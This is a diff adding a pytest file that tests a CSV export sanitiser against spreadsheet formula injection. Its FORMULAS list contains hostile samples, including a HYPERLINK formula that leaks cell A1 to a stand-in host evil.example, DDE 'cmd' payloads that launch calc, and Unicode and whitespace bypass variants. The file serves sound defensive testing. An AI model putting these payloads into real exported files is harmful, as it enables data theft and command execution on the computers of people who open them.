@@ -1,0 +1,64 @@
+"""No cell of an exported CSV file is a formula, and plain text stays as it is."""
+
+import csv
+import io
+
+import pytest
+
+from pipeline_core.terminal.exporting import FORMATS
+from pipeline_core.terminal.spreadsheet_cells import harmless
+
+FORMULAS = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1)",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\tplain",
+    "\r=1+1",
+    "\nplain",
+    " =1+1",
+    "\u00a0=1+1",
+    "\ufeff=1+1",
+    "\u200b@x",
+    "\x00=1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1)",
+    "﹦1",
+    "−1+1",
+    "-",
+    "- a point of a list",
+    "+49 170 1234567",
+    "-5+A1",
+    "+5*2",
+    "-٣",
+]  # fmt: skip
+PLAIN = ["", "a", "a=b", "5-3", "'quoted", "“=1”", "-5", "+3.2", "-1,234.50", "+12%", "-0.5", None, 7, -7]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_formula_becomes_text(text: str) -> None:
+    assert harmless(text) == "'" + text
+
+
+@pytest.mark.parametrize("cell", PLAIN)
+def test_plain_stays(cell: object) -> None:
+    assert harmless(cell) == cell
+
+
+def test_every_text_of_an_export() -> None:
+    fact = dict.fromkeys(
+        ("question_id", "chunk_id", "question", "answer", "statement", "quote", "match", "generator"), "=1+1"
+    )
+    exported = {
+        "document_id": "7",
+        "filename": "=cmd.md",
+        "facts": [{**fact, "page": 1, "char_from": 0, "char_to": 4}],
+    }
+    text = b"".join(FORMATS["csv"](exported)).decode()
+    _, row = csv.reader(io.StringIO(text, newline=""))
+    assert row[1] == "'=cmd.md"
+    assert [cell for cell in row if cell.startswith("=")] == []
+    assert sum(cell == "'=1+1" for cell in row) == len(fact)
